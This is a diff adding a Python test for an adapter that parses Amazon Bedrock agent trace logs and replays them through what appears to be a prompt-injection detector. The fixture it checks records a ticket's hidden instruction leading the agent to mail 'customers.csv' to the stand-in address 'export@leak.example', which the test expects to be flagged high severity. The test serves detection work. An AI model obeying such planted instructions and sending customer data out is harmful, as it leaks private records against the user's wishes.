@@ -743,3 +743,21 @@ def test_autogen_task_result_each_agent_its_own_calls(tmp_path):
         ("auditor", "lookup_payee", "read", "error", "GB33BUKB20201555555555")]
     assert acts[0].attributes["request"].startswith("Pay Northwind's invoice") and acts[1].time.isoformat() == "2025-11-03T09:00:07+00:00"
     assert injected_severity(replayed_alerts(DATA / "autogen_task_result.json", tmp_path)) == {"call_a2": "high"}
+
+
+def test_bedrock_agent_trace_parts_each_step_a_call(tmp_path):
+    """Amazon Bedrock Agents' trace parts as an application logs them (a part per line, some in the stream's
+    event around them): action group calls answered by their observation (same traceId), a knowledge base
+    lookup and its passages, a collaborator's hand-over and its own call (its agent: collaboratorName); the
+    ticket's hidden instruction makes the mail send page; model steps and rationales are counted."""
+    acts, bad, adapter = _read("bedrock_agent_trace.jsonl")
+    assert not bad
+    assert [(a.agent_id, a.tool, a.operation, a.resource) for a in acts] == [
+        ("AGENT7XQ2", "tickets.get_ticket", "read", "812"), ("AGENT7XQ2", "knowledge_base_lookup", "read", None),
+        ("AGENT7XQ2", "mail.send", "send", "export@leak.example"), ("billing-agent", "payments.issue_refund", "write", None),
+        ("AGENT7XQ2", "invoke_agent", "invoke", None)]  # answered after its collaborator's own call
+    assert acts[2].attributes["arguments"] == {"to": "export@leak.example", "attachment": "customers.csv"}  # an API's requestBody
+    assert acts[1].attributes["result"] == [{"text": "Broken items are refunded in full within 30 days."}]
+    assert acts[0].time.isoformat() == "2025-11-03T10:00:03+00:00" and {a.session_id for a in acts} == {"sess-4411"}
+    assert sum(n for why, n in adapter.skipped.items() if why.startswith("Bedrock agent")) == 5  # type: ignore[attr-defined]
+    assert injected_severity(replayed_alerts(DATA / "bedrock_agent_trace.jsonl", tmp_path)) == {"t-2": "high"}
